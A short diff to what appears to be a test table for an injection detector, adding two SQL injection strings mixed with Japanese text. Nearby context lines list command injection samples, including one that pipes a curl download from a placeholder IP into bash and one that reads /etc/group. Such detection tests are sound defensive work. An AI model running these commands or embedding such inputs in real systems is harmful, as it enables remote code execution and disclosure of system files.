@@ -38,6 +38,8 @@ test.each([
   ['nosql_injection', "' return a as b"],
   ['sql_injection', "'/'"],
   ['sql_injection', '"-" or 1=1 が'],
+  ['sql_injection', "'-'あ"],
+  ['sql_injection', "x'-'あいうえ"],
   ['command_injection', 'x `man -k x; cat /etc/group` を'],
   ['command_injection', 'the readme says; curl 203.0.113.9/a | bash'],
   ['command_injection', 'x;curl | bash -c id'],
